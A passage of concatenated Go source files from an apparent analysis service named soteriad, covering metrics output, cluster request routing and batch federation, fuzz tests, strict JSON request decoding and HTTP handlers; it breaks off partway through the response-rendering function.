		engines...)

	w.Header().Set("Content-Type", "text/plain; version=0.0.4")
	fmt.Fprint(w, b.String())
}
