package service

import (
	"fmt"
	"net/http"
	"strings"
)

// handleMetrics serves GET /metrics in the Prometheus text exposition
// format (hand-rendered; the serving tier is standard-library only).
// Gauges come from the guard instrumentation, counters from the job
// table, the persistent store, and the in-process analysis cache.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	var b strings.Builder
	gauge := func(name, help string, v int64) {
		fmt.Fprintf(&b, "# HELP %s %s\n# TYPE %s gauge\n%s %d\n", name, help, name, name, v)
	}
	counter := func(name, help string, v int64) {
		fmt.Fprintf(&b, "# HELP %s %s\n# TYPE %s counter\n%s %d\n", name, help, name, name, v)
	}

	gauge("soteriad_queue_depth", "Jobs queued and not yet running.", s.queueDepth.Value())
	gauge("soteriad_inflight_jobs", "Jobs currently being analyzed.", s.inflight.Value())
	draining := int64(0)
	if s.Draining() {
		draining = 1
	}
	gauge("soteriad_draining", "1 while the server drains for shutdown.", draining)

	counter("soteriad_jobs_done_total", "Jobs completed successfully (including cache-served).", s.jobsDone.Load())
	counter("soteriad_jobs_failed_total", "Jobs that ended in a hard input error.", s.jobsFailed.Load())
	counter("soteriad_jobs_rejected_total", "Submissions rejected by backpressure or drain.", s.jobsRejected.Load())

	counter("soteriad_idempotency_hits_total", "Resubmissions answered by an idempotency key's first job.", s.idemHits.Load())
	counter("soteriad_jobs_replayed", "Jobs rebuilt from the journal at startup.", s.jobsReplayed.Load())
	counter("soteriad_jobs_reenqueued", "Replayed jobs re-enqueued because they never reached a terminal state.", s.jobsReenqueued.Load())
	counter("soteriad_journal_dup_keys", "Duplicate idempotency keys collapsed during journal replay.", s.journalDupKeys.Load())
	if s.journal != nil {
		counter("soteriad_journal_appends_total", "Entries appended to the job journal.", s.journal.stats.appends.Load())
		counter("soteriad_journal_syncs_total", "fsyncs issued by the job journal (group commit batches appends).", s.journal.stats.syncs.Load())
		counter("soteriad_journal_truncated_bytes", "Torn-tail bytes truncated when the journal was opened.", int64(s.journal.replay.TruncatedBytes))
	}

	cs := s.cache.Stats()
	counter("soteriad_cache_hits_total", "Analysis cache hits (in-process + store).", cs.Hits)
	counter("soteriad_cache_misses_total", "Analysis cache misses (in-process + store).", cs.Misses)
	counter("soteriad_cache_evictions_total", "Analysis cache evictions (in-process + store front).", cs.Evictions)
	gauge("soteriad_cache_analyses", "Analyses held in process.", int64(cs.Analyses))
	gauge("soteriad_cache_ir_entries", "Parsed IR entries held in process.", int64(cs.IREntries))

	ss := s.cfg.Store.Stats()
	counter("soteriad_store_hits_total", "Persistent store hits (memory front + disk).", ss.Hits)
	counter("soteriad_store_disk_hits_total", "Persistent store hits served from disk.", ss.DiskHits)
	counter("soteriad_store_misses_total", "Persistent store misses.", ss.Misses)
	counter("soteriad_store_puts_total", "Records written to the persistent store.", ss.Puts)
	counter("soteriad_store_evictions_total", "Records evicted from the store's memory front.", ss.Evictions)
	counter("soteriad_store_corrupt_total", "Corrupt records quarantined on read.", ss.Corrupt)

	w.Header().Set("Content-Type", "text/plain; version=0.0.4")
	fmt.Fprint(w, b.String())
}
