package service

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"sort"
	"sync"
	"time"

	"github.com/soteria-analysis/soteria/internal/client"
	"github.com/soteria-analysis/soteria/internal/cluster"
	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/report"
	"github.com/soteria-analysis/soteria/internal/store"
)

// ForwardedHeader marks a request that already crossed one routing hop
// (mirrors client.ForwardedHeader). A request carrying it is served
// locally whatever the ring says: if two nodes ever disagreed about a
// key's owner, the disagreement costs one extra hop, never a loop.
const ForwardedHeader = "X-Soteria-Forwarded"

// maybeRoute applies cluster routing to a parsed job. It returns true
// when it fully handled the response (forwarded and/or federated);
// false sends the job down the normal local path — because routing is
// off, every key is self-owned, the request already crossed a hop, or
// the single owner was unreachable (degrade to local, don't fail).
//
// Async jobs always run locally: the poll handle in the 202 response
// names this node's job table, so the job must live here.
func (s *Server) maybeRoute(w http.ResponseWriter, r *http.Request, j *job) bool {
	cl := s.cfg.Cluster
	if cl == nil || j.forwarded || j.async {
		return false
	}
	owners := make([]string, len(j.items))
	allLocal := true
	for i, it := range j.items {
		owners[i] = cl.Owner(core.AnalysisKey(it.Sources, j.opts))
		if owners[i] != cl.Self() {
			allLocal = false
		}
	}
	if allLocal {
		return false
	}
	if !j.batch {
		return s.routeSingle(w, r, j, owners[0])
	}
	return s.routeBatch(w, r, j, owners)
}

// routeSingle forwards a whole single-analysis request to its owner —
// the raw validated body, so the owner sees exactly the bytes this
// node accepted. An unreachable owner falls back to the local path.
func (s *Server) routeSingle(w http.ResponseWriter, r *http.Request, j *job, owner string) bool {
	cl := s.cfg.Cluster
	jr, err := cl.Forward(r.Context(), owner, "/v1/analyze", j.raw, j.trace)
	if err != nil {
		s.routeFallbacks.Add(1)
		cl.NoteFallback(owner)
		s.logger.Warn("forward failed, serving locally",
			"owner", owner, "trace", j.trace, "error", err)
		return false
	}
	s.routeForwards.Add(1)
	status := statusDone
	if jr.Status == string(statusFailed) {
		status = statusFailed
	}
	res := itemResult{
		Key: j.items[0].Key, StoreKey: jr.Key, Cached: jr.Cached,
		Record: jr.Result, Err: jr.Error, Node: owner,
	}
	s.finishRouted(j, status, []itemResult{res}, time.Duration(jr.ElapsedMS)*time.Millisecond)
	code := http.StatusOK
	if status == statusFailed {
		code = http.StatusUnprocessableEntity
	}
	respondJob(w, code, j)
	return true
}

// routeBatch splits a batch by owner, forwards each remote group to
// its owner concurrently, runs the local group (plus any group whose
// owner was unreachable) through the normal queue, and federates the
// per-item results back into one response in the original item order,
// each item attributed to the node that produced it.
func (s *Server) routeBatch(w http.ResponseWriter, r *http.Request, j *job, owners []string) bool {
	cl := s.cfg.Cluster
	start := time.Now()
	groups := map[string][]int{}
	for i, o := range owners {
		groups[o] = append(groups[o], i)
	}

	// results is written at disjoint indices by the group goroutines;
	// localIdx collects the groups that must run here.
	results := make([]itemResult, len(j.items))
	var mu sync.Mutex
	localIdx := append([]int{}, groups[cl.Self()]...)
	var wg sync.WaitGroup
	for owner, idx := range groups {
		if owner == cl.Self() {
			continue
		}
		wg.Add(1)
		go func(owner string, idx []int) {
			defer wg.Done()
			body, err := s.subBatchBody(j, owner, idx)
			if err == nil {
				var jr *client.Job
				if jr, err = cl.Forward(r.Context(), owner, "/v1/batch", body, j.trace); err == nil {
					s.routeForwards.Add(1)
					adoptBatchResults(j, owner, idx, jr, results)
					return
				}
			}
			s.routeFallbacks.Add(1)
			cl.NoteFallback(owner)
			s.logger.Warn("batch forward failed, running items locally",
				"owner", owner, "items", len(idx), "trace", j.trace, "error", err)
			mu.Lock()
			localIdx = append(localIdx, idx...)
			mu.Unlock()
		}(owner, idx)
	}
	wg.Wait()
	if len(localIdx) > 0 {
		sort.Ints(localIdx)
		s.runLocalSub(j, localIdx, results)
	}
	s.finishRouted(j, statusDone, results, time.Since(start))
	respondJob(w, http.StatusOK, j)
	return true
}

// subBatchBody renders the sub-batch this node forwards to owner. Item
// keys are pinned to their resolved values (including the "item-N"
// defaults), so the owner's results federate back by key; the
// idempotency key is derived per owner so a client retry dedupes each
// sub-batch against its own first run.
func (s *Server) subBatchBody(j *job, owner string, idx []int) ([]byte, error) {
	req := batchRequest{Options: j.breq.Options, Timings: j.breq.Timings}
	for _, i := range idx {
		it := j.breq.Items[i]
		it.Key = j.items[i].Key
		req.Items = append(req.Items, it)
	}
	if j.idemKey != "" {
		req.IdempotencyKey = derivedIdemKey(j.idemKey, owner)
	}
	return json.Marshal(req)
}

// derivedIdemKey scopes an idempotency key to one owner's sub-batch,
// staying within the key grammar (visible ASCII, <= 128 bytes).
func derivedIdemKey(key, owner string) string {
	sum := sha256.Sum256([]byte(owner))
	suffix := "@" + hex.EncodeToString(sum[:4])
	if len(key)+len(suffix) <= 128 {
		return key + suffix
	}
	whole := sha256.Sum256([]byte(key + "\x00" + owner))
	return "fed-" + hex.EncodeToString(whole[:16])
}

// adoptBatchResults maps one owner's sub-batch response back onto the
// parent batch's item slots.
func adoptBatchResults(j *job, owner string, idx []int, jr *client.Job, results []itemResult) {
	byKey := make(map[string]client.BatchItem, len(jr.Results))
	for _, it := range jr.Results {
		byKey[it.Key] = it
	}
	for _, i := range idx {
		it, ok := byKey[j.items[i].Key]
		if !ok {
			results[i] = itemResult{Key: j.items[i].Key, Node: owner, Err: "owner returned no result for item"}
			continue
		}
		results[i] = itemResult{
			Key: it.Key, StoreKey: it.Store, Cached: it.Cached,
			Record: it.Result, Err: it.Error, Node: owner,
		}
	}
}

// runLocalSub runs a subset of a federated batch through this node's
// normal path — store fast path, journal, queue — writing the outcomes
// into the parent's result slots. Failures degrade to per-item errors:
// a federated batch answers for every item, well or badly.
func (s *Server) runLocalSub(j *job, idx []int, results []itemResult) {
	self := s.cfg.Cluster.Self()
	sub := &job{
		id:    newJobID(),
		batch: true,
		opts:  j.opts,
		trace: j.trace,
		done:  make(chan struct{}),
	}
	for _, i := range idx {
		sub.items = append(sub.items, j.items[i])
	}
	fail := func(msg string) {
		for _, i := range idx {
			results[i] = itemResult{Key: j.items[i].Key, Node: self, Err: msg}
		}
	}
	if !s.finishFromStore(sub) {
		if err := s.journal.append(acceptedEvent(sub)); err != nil {
			s.logger.Error("journal accepted append failed", "job", sub.id, "trace", sub.trace, "error", err)
			fail("job journal write failed")
			return
		}
		if err := s.submit(sub); err != nil {
			if jerr := s.journal.append(journalEvent{Op: opRejected, Job: sub.id}); jerr != nil {
				s.logger.Error("journal rejected append failed", "job", sub.id, "trace", sub.trace, "error", jerr)
			}
			fail(err.Error())
			return
		}
		<-sub.done
	}
	_, subResults, _ := sub.snapshot()
	for n, i := range idx {
		r := subResults[n]
		r.Key = j.items[i].Key
		r.Node = self
		results[i] = r
	}
}

// finishRouted publishes a routed/federated job's terminal state. The
// job is registered for /v1/jobs but not journaled: each owner
// journals the work it ran, and replaying a pure routing decision
// would re-forward work the owners already hold in their stores.
func (s *Server) finishRouted(j *job, status jobStatus, results []itemResult, elapsed time.Duration) {
	if status == statusFailed {
		s.jobsFailed.Add(1)
	} else {
		s.jobsDone.Add(1)
	}
	// Forwarded hops embed their own timing trees in the records they
	// return; there is no meaningful single span tree for a federated
	// job, so the origin never overlays one.
	j.timings = false
	j.mu.Lock()
	j.status = status
	j.results = results
	j.elapsed = elapsed
	j.mu.Unlock()
	close(j.done)
	s.registerJob(j)
	s.logger.Info("job federated",
		"job", j.id, "trace", j.trace, "status", string(status),
		"elapsed_ms", elapsed.Milliseconds(), "items", len(results))
}

// clusterStatusResponse is GET /v1/cluster/status: the routing view
// (ring membership, ownership shares, per-peer counters) plus this
// node's live load. A single-node daemon serves it too — the load
// harness reads one schema whatever the fleet size.
type clusterStatusResponse struct {
	cluster.Status
	QueueDepth int64 `json:"queue_depth"`
	Inflight   int64 `json:"inflight"`
}

func (s *Server) handleClusterStatus(w http.ResponseWriter, r *http.Request) {
	resp := clusterStatusResponse{
		QueueDepth: s.queueDepth.Value(),
		Inflight:   s.inflight.Value(),
	}
	if cl := s.cfg.Cluster; cl != nil {
		resp.Status = cl.Status()
	} else {
		resp.Status = cluster.Status{Members: 1}
	}
	writeJSON(w, http.StatusOK, resp)
}

// handlePutResult serves PUT /v1/results/{hash}: a peer (or operator)
// parking a record on this node. Writes land in the LOCAL store only —
// never routed — which is the store layer's loop guard: a peer's write
// terminates here, whatever this node's ring says. The key is not
// re-derived from the record (a record alone cannot reproduce its
// analysis key, which hashes sources and options), but it must be a
// well-formed store key and the record a valid current-schema record.
func (s *Server) handlePutResult(w http.ResponseWriter, r *http.Request) {
	hash := r.PathValue("hash")
	if !store.ValidKey(hash) {
		writeError(w, http.StatusBadRequest, "invalid result key %q", hash)
		return
	}
	data, herr := s.readBody(w, r)
	if herr != nil {
		writeError(w, herr.code, "%s", herr.msg)
		return
	}
	rec, err := report.Decode(data)
	if err != nil {
		writeError(w, http.StatusBadRequest, "invalid record: %v", err)
		return
	}
	if err := s.cfg.Store.Put(hash, rec); err != nil {
		writeError(w, http.StatusInternalServerError, "storing record: %v", err)
		return
	}
	w.WriteHeader(http.StatusNoContent)
}
