package service

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"
)

// fuzzServer builds a server for decoder fuzzing only — one worker,
// deliberately small source cap so the fuzzer can reach the 413 path.
func fuzzServer(f *testing.F) *Server {
	f.Helper()
	s, err := New(Config{Workers: 1, MaxSourceBytes: 2048})
	if err != nil {
		f.Fatalf("New: %v", err)
	}
	f.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	return s
}

// FuzzParseAnalyze asserts the request decoder's contract: every input
// yields either a runnable job or a 4xx error — never a panic, never a
// 5xx, never a job with no items.
func FuzzParseAnalyze(f *testing.F) {
	seeds := []string{
		`{"name":"x","source":"definition(name: \"x\")"}`,
		`{"apps":[{"name":"a","source":"s"},{"name":"b","source":"t"}]}`,
		`{"name":"x","source":"y","options":{"general":false,"properties":["P.1"],"timeout_ms":100,"max_states":10,"parallel":2},"async":true}`,
		`{}`,
		`{"name":`,
		`null`,
		`[]`,
		`"string"`,
		`{"name":"x","source":"y","unknown_field":1}`,
		`{"name":"x","source":"y"}{"trailing":true}`,
		`{"name":"x","source":"y","options":{"properties":["P.999"]}}`,
		`{"name":"x","source":"y","options":{"general":false,"app_specific":false}}`,
		`{"name":"x","source":"y","options":{"timeout_ms":-5}}`,
		`{"name":"x","source":"y","apps":[{"name":"a","source":"s"}]}`,
		`{"name":"x","source":"` + strings.Repeat("a", 4096) + `"}`,
		`{"apps":[{"name":"","source":"s"}]}`,
		`{"apps":[{"name":"a","source":""}]}`,
		strings.Repeat(`{"apps":`, 200) + strings.Repeat("}", 200),
		"\x00\x01\x02",
	}
	s := fuzzServer(f)
	for _, seed := range seeds {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		j, herr := s.parseAnalyze(data)
		checkDecodeOutcome(t, j, herr)
	})
}

// FuzzParseBatch is the same contract for the batch decoder.
func FuzzParseBatch(f *testing.F) {
	seeds := []string{
		`{"items":[{"key":"a","apps":[{"name":"x","source":"y"}]}]}`,
		`{"items":[{"apps":[{"name":"x","source":"y"}]},{"apps":[{"name":"z","source":"w"}]}],"options":{"parallel":4}}`,
		`{"items":[]}`,
		`{"items":[{"key":"dup","apps":[{"name":"a","source":"s"}]},{"key":"dup","apps":[{"name":"b","source":"t"}]}]}`,
		`{"items":[{"key":"a"}]}`,
		`{"items":`,
		`{}`,
	}
	s := fuzzServer(f)
	for _, seed := range seeds {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		j, herr := s.parseBatch(data)
		checkDecodeOutcome(t, j, herr)
	})
}

func checkDecodeOutcome(t *testing.T, j *job, herr *httpError) {
	t.Helper()
	if herr != nil {
		if herr.code < 400 || herr.code > 499 {
			t.Fatalf("decoder returned status %d (%s), want 4xx", herr.code, herr.msg)
		}
		if herr.msg == "" {
			t.Fatalf("decoder returned %d with empty message", herr.code)
		}
		if j != nil {
			t.Fatal("decoder returned both a job and an error")
		}
		return
	}
	if j == nil {
		t.Fatal("decoder returned neither job nor error")
	}
	if len(j.items) == 0 {
		t.Fatal("accepted job has no items")
	}
	for i, it := range j.items {
		if len(it.Sources) == 0 {
			t.Fatalf("accepted job item %d has no sources", i)
		}
	}
	if !j.opts.General && !j.opts.AppSpecific && !j.opts.Taint {
		t.Fatal("accepted job checks nothing")
	}
	_ = fmt.Sprintf("%v", j.opts) // options must be render-safe
}
