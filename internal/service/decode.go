package service

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"sync"
	"time"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/taint"
)

// httpError is a client-visible request failure. Every path out of the
// decoder returns one with a 4xx status — malformed, oversized, and
// semantically invalid requests must never panic and never map to 5xx.
type httpError struct {
	code int
	msg  string
}

func (e *httpError) Error() string { return e.msg }

func badRequest(format string, args ...any) *httpError {
	return &httpError{code: http.StatusBadRequest, msg: fmt.Sprintf(format, args...)}
}

func tooLarge(format string, args ...any) *httpError {
	return &httpError{code: http.StatusRequestEntityTooLarge, msg: fmt.Sprintf(format, args...)}
}

// appSource is one named Groovy source in a request.
type appSource struct {
	Name   string `json:"name"`
	Source string `json:"source"`
}

// requestOptions selects property families and resource bounds for a
// job. Absent booleans default to true (check everything), matching
// core.DefaultOptions.
type requestOptions struct {
	General     *bool    `json:"general,omitempty"`
	AppSpecific *bool    `json:"app_specific,omitempty"`
	Taint       *bool    `json:"taint,omitempty"`
	Properties  []string `json:"properties,omitempty"`
	TimeoutMS   int64    `json:"timeout_ms,omitempty"`
	MaxStates   int      `json:"max_states,omitempty"`
	Parallel    int      `json:"parallel,omitempty"`
}

// analyzeRequest is the POST /v1/analyze body: one app (name+source)
// or a multi-app union (apps). IdempotencyKey (or the Idempotency-Key
// header) makes resubmissions safe: the key's first accepted job
// answers every retry instead of running again.
type analyzeRequest struct {
	Name           string         `json:"name,omitempty"`
	Source         string         `json:"source,omitempty"`
	Apps           []appSource    `json:"apps,omitempty"`
	Options        requestOptions `json:"options,omitempty"`
	Async          bool           `json:"async,omitempty"`
	IdempotencyKey string         `json:"idempotency_key,omitempty"`
	// Timings embeds the job's span tree (and trace ID) in the
	// response records. Timing data rides the response only — it is
	// never part of the stored, content-addressed record.
	Timings bool `json:"timings,omitempty"`
}

// batchRequest is the POST /v1/batch body.
type batchRequest struct {
	Items          []batchRequestItem `json:"items"`
	Options        requestOptions     `json:"options,omitempty"`
	Async          bool               `json:"async,omitempty"`
	IdempotencyKey string             `json:"idempotency_key,omitempty"`
	// Timings embeds each job's span tree in the response records.
	Timings bool `json:"timings,omitempty"`
}

// validateIdemKey bounds a client-supplied idempotency key: visible
// ASCII, at most 128 bytes — it is journaled and indexed verbatim.
func validateIdemKey(k string) *httpError {
	if len(k) > 128 {
		return badRequest("idempotency key is %d bytes (limit 128)", len(k))
	}
	for i := 0; i < len(k); i++ {
		if k[i] < 0x21 || k[i] > 0x7e {
			return badRequest("idempotency key must be visible ASCII")
		}
	}
	return nil
}

// batchRequestItem is one unit of a batch: an app or multi-app union.
type batchRequestItem struct {
	Key  string      `json:"key,omitempty"`
	Apps []appSource `json:"apps"`
}

// decodeJSON strictly parses data into dst: unknown fields and
// trailing garbage are rejected so schema typos surface as 400s
// instead of silently ignored options.
func decodeJSON(data []byte, dst any) *httpError {
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	if err := dec.Decode(dst); err != nil {
		return badRequest("invalid JSON: %v", err)
	}
	var trailing any
	if err := dec.Decode(&trailing); !errors.Is(err, io.EOF) {
		return badRequest("trailing data after JSON body")
	}
	return nil
}

// catalogueIDs memoizes the valid property-ID set: the app-specific
// catalogue plus the taint family (exact IDs and the "T.*" wildcard).
var catalogueIDs = sync.OnceValue(func() map[string]bool {
	ids := map[string]bool{}
	for _, p := range properties.Catalogue() {
		ids[p.ID] = true
	}
	for _, id := range taint.IDs() {
		ids[id] = true
	}
	ids["T.*"] = true
	return ids
})

// validateSources checks a request's app list against the per-source
// size cap and non-emptiness.
func validateSources(apps []appSource, maxSource int, where string) *httpError {
	if len(apps) == 0 {
		return badRequest("%s: no app sources", where)
	}
	for i, a := range apps {
		if a.Name == "" {
			return badRequest("%s: app %d has no name", where, i)
		}
		if a.Source == "" {
			return badRequest("%s: app %q has no source", where, a.Name)
		}
		if len(a.Source) > maxSource {
			return tooLarge("%s: app %q source is %d bytes (limit %d)", where, a.Name, len(a.Source), maxSource)
		}
	}
	return nil
}

// coreOptions validates and converts request options. The job's wall
// clock is governed by the server's JobTimeout; a request may lower
// it, never raise it.
func (s *Server) coreOptions(o requestOptions) (core.Options, *httpError) {
	opts := core.DefaultOptions()
	if o.General != nil {
		opts.General = *o.General
	}
	if o.AppSpecific != nil {
		opts.AppSpecific = *o.AppSpecific
	}
	if o.Taint != nil {
		opts.Taint = *o.Taint
	}
	if !opts.General && !opts.AppSpecific && !opts.Taint {
		return opts, badRequest("options: nothing to check (general, app_specific, and taint all disabled)")
	}
	valid := catalogueIDs()
	for _, id := range o.Properties {
		if !valid[id] {
			return opts, badRequest("options: unknown property ID %q", id)
		}
	}
	opts.PropertyIDs = append([]string{}, o.Properties...)
	if o.TimeoutMS < 0 {
		return opts, badRequest("options: negative timeout_ms")
	}
	if o.MaxStates < 0 {
		return opts, badRequest("options: negative max_states")
	}
	if o.Parallel < 0 || o.Parallel > 256 {
		return opts, badRequest("options: parallel out of range [0, 256]")
	}
	opts.Limits = s.cfg.Limits
	if o.TimeoutMS > 0 {
		d := time.Duration(o.TimeoutMS) * time.Millisecond
		if d < s.cfg.JobTimeout {
			opts.Limits.Timeout = d
		}
	}
	if o.MaxStates > 0 && (s.cfg.Limits.MaxStates == 0 || o.MaxStates < s.cfg.Limits.MaxStates) {
		opts.Limits.MaxStates = o.MaxStates
	}
	opts.Parallel = o.Parallel
	if opts.Parallel == 0 {
		opts.Parallel = s.cfg.Parallel
	}
	return opts, nil
}

// parseAnalyze decodes and validates a POST /v1/analyze body into a
// ready-to-run job (minus its ID). It is the fuzz target's entry
// point: any input must yield either a job or a 4xx httpError.
func (s *Server) parseAnalyze(data []byte) (*job, *httpError) {
	var req analyzeRequest
	if herr := decodeJSON(data, &req); herr != nil {
		return nil, herr
	}
	apps := req.Apps
	if req.Name != "" || req.Source != "" {
		if len(apps) > 0 {
			return nil, badRequest("provide either name+source or apps, not both")
		}
		apps = []appSource{{Name: req.Name, Source: req.Source}}
	}
	if herr := validateSources(apps, s.cfg.MaxSourceBytes, "analyze"); herr != nil {
		return nil, herr
	}
	opts, herr := s.coreOptions(req.Options)
	if herr != nil {
		return nil, herr
	}
	if herr := validateIdemKey(req.IdempotencyKey); herr != nil {
		return nil, herr
	}
	sources := make([]core.NamedSource, len(apps))
	for i, a := range apps {
		sources[i] = core.NamedSource{Name: a.Name, Source: a.Source}
	}
	return &job{
		idemKey: req.IdempotencyKey,
		items:   []core.BatchItem{{Sources: sources}},
		opts:    opts,
		async:   req.Async,
		timings: req.Timings,
		status:  statusQueued,
		done:    make(chan struct{}),
	}, nil
}

// parseBatch decodes and validates a POST /v1/batch body.
func (s *Server) parseBatch(data []byte) (*job, *httpError) {
	var req batchRequest
	if herr := decodeJSON(data, &req); herr != nil {
		return nil, herr
	}
	if len(req.Items) == 0 {
		return nil, badRequest("batch: no items")
	}
	if len(req.Items) > s.cfg.MaxBatchItems {
		return nil, tooLarge("batch: %d items (limit %d)", len(req.Items), s.cfg.MaxBatchItems)
	}
	if herr := validateIdemKey(req.IdempotencyKey); herr != nil {
		return nil, herr
	}
	opts, herr := s.coreOptions(req.Options)
	if herr != nil {
		return nil, herr
	}
	seen := map[string]bool{}
	items := make([]core.BatchItem, len(req.Items))
	for i, it := range req.Items {
		if herr := validateSources(it.Apps, s.cfg.MaxSourceBytes, fmt.Sprintf("batch item %d", i)); herr != nil {
			return nil, herr
		}
		key := it.Key
		if key == "" {
			key = fmt.Sprintf("item-%d", i)
		}
		if seen[key] {
			return nil, badRequest("batch: duplicate item key %q", key)
		}
		seen[key] = true
		sources := make([]core.NamedSource, len(it.Apps))
		for j, a := range it.Apps {
			sources[j] = core.NamedSource{Name: a.Name, Source: a.Source}
		}
		items[i] = core.BatchItem{Key: key, Sources: sources}
	}
	return &job{
		idemKey: req.IdempotencyKey,
		batch:   true,
		items:   items,
		opts:    opts,
		async:   req.Async,
		timings: req.Timings,
		breq:    &req,
		status:  statusQueued,
		done:    make(chan struct{}),
	}, nil
}
