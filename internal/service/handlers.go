package service

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"time"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/obs"
	"github.com/soteria-analysis/soteria/internal/report"
)

// TraceHeader carries a job's trace ID on requests (client-minted,
// stable across retries) and responses (the ID the daemon adopted or
// minted).
const TraceHeader = "X-Soteria-Trace"

// Handler returns the service's HTTP API:
//
//	POST /v1/analyze        analyze one app or a multi-app union
//	POST /v1/batch          analyze many items in one job
//	GET  /v1/jobs/{id}      poll an async job
//	GET  /v1/results/{hash} look up a stored record by content address
//	PUT  /v1/results/{hash} park a record in this node's local store
//	GET  /v1/cluster/status fleet membership, shares, routing counters
//	GET  /healthz           liveness (503 while draining)
//	GET  /metrics           Prometheus text metrics
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/analyze", s.handleAnalyze)
	mux.HandleFunc("POST /v1/batch", s.handleBatch)
	mux.HandleFunc("GET /v1/jobs/{id}", s.handleJob)
	mux.HandleFunc("GET /v1/results/{hash}", s.handleResult)
	mux.HandleFunc("PUT /v1/results/{hash}", s.handlePutResult)
	mux.HandleFunc("GET /v1/cluster/status", s.handleClusterStatus)
	mux.HandleFunc("GET /healthz", s.handleHealth)
	mux.HandleFunc("GET /metrics", s.handleMetrics)
	return s.logRequests(mux)
}

// statusRecorder captures the response status for the request log.
type statusRecorder struct {
	http.ResponseWriter
	code int
}

func (r *statusRecorder) WriteHeader(code int) {
	r.code = code
	r.ResponseWriter.WriteHeader(code)
}

// logRequests emits one structured log line per request. The trace ID
// is taken from the response (the ID the handler adopted or minted),
// falling back to a valid client-supplied header — so every attempt of
// a retried submission logs under the same trace even when it is
// rejected before a job exists.
func (s *Server) logRequests(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		rec := &statusRecorder{ResponseWriter: w, code: http.StatusOK}
		next.ServeHTTP(rec, r)
		trace := rec.Header().Get(TraceHeader)
		if trace == "" {
			if h := r.Header.Get(TraceHeader); obs.ValidTraceID(h) {
				trace = h
			}
		}
		attrs := []any{
			"method", r.Method, "path", r.URL.Path,
			"status", rec.code, "dur_ms", time.Since(start).Milliseconds(),
		}
		if trace != "" {
			attrs = append(attrs, "trace", trace)
		}
		s.logger.Info("http request", attrs...)
	})
}

// requestTrace adopts a valid client-supplied trace ID or mints one.
func requestTrace(r *http.Request) string {
	if h := r.Header.Get(TraceHeader); obs.ValidTraceID(h) {
		return h
	}
	return obs.NewTraceID()
}

// jobResponse is the wire form of a job's state: the analyze and
// batch endpoints and the jobs poll all speak it.
type jobResponse struct {
	JobID     string    `json:"job_id"`
	Status    jobStatus `json:"status"`
	Poll      string    `json:"poll,omitempty"`
	ElapsedMS int64     `json:"elapsed_ms,omitempty"`
	// Single-analysis fields.
	Key    string         `json:"key,omitempty"`
	Cached bool           `json:"cached,omitempty"`
	Result *report.Record `json:"result,omitempty"`
	Error  string         `json:"error,omitempty"`
	// Node attributes a routed result to the fleet member that
	// produced it (empty on single-node daemons and local results).
	Node string `json:"node,omitempty"`
	// Batch fields.
	Results []batchItemResponse `json:"results,omitempty"`
}

type batchItemResponse struct {
	Key    string         `json:"key"`
	Store  string         `json:"store_key"`
	Cached bool           `json:"cached"`
	Result *report.Record `json:"result,omitempty"`
	Error  string         `json:"error,omitempty"`
	Node   string         `json:"node,omitempty"`
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	enc := json.NewEncoder(w)
	_ = enc.Encode(v)
}

func writeError(w http.ResponseWriter, code int, format string, args ...any) {
	writeJSON(w, code, map[string]string{"error": fmt.Sprintf(format, args...)})
}

// readBody reads a capped request body, mapping the cap to 413.
func (s *Server) readBody(w http.ResponseWriter, r *http.Request) ([]byte, *httpError) {
	data, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes))
	if err != nil {
		var mbe *http.MaxBytesError
		if errors.As(err, &mbe) {
			return nil, tooLarge("request body exceeds %d bytes", mbe.Limit)
		}
		return nil, badRequest("reading body: %v", err)
	}
	return data, nil
}

// rejectSubmit maps a submit error to its status code: 429 with a
// Retry-After hint for a full queue, 503 while draining.
func (s *Server) rejectSubmit(w http.ResponseWriter, err error) {
	if errors.Is(err, errDraining) {
		writeError(w, http.StatusServiceUnavailable, "server is draining")
		return
	}
	secs := int64((s.cfg.RetryAfter + time.Second - 1) / time.Second)
	w.Header().Set("Retry-After", strconv.FormatInt(secs, 10))
	writeError(w, http.StatusTooManyRequests, "job queue is full, retry after %ds", secs)
}

// respondJob renders a completed or polled job. The job's trace ID is
// returned in X-Soteria-Trace; when the job asked for timings, each
// record in the response carries the span tree on a per-response copy
// (never the stored record — timing data is run-varying and must stay
// out of the content-addressed bytes).
func respondJob(w http.ResponseWriter, code int, j *job) {
	status, results, elapsed := j.snapshot()
	if j.trace != "" {
		w.Header().Set(TraceHeader, j.trace)
	}
	resp := jobResponse{JobID: j.id, Status: status, ElapsedMS: elapsed.Milliseconds()}
	if status != statusDone && status != statusFailed {
		resp.Poll = "/v1/jobs/" + j.id
		writeJSON(w, code, resp)
		return
	}
	var timing *report.Timing
	if j.timings {
		timing = report.TimingFromSpan(j.trace, j.spanTree())
	}
	withTiming := func(rec *report.Record) *report.Record {
		if rec == nil || timing == nil {
			return rec
		}
		cp := *rec
		cp.Timing = timing
		return &cp
	}
	if j.batch {
		for _, it := range results {
			resp.Results = append(resp.Results, batchItemResponse{
				Key:    it.Key,
				Store:  it.StoreKey,
				Cached: it.Cached,
				Result: withTiming(it.Record),
				Error:  it.Err,
				Node:   it.Node,
			})
		}
	} else if len(results) == 1 {
		resp.Key = results[0].StoreKey
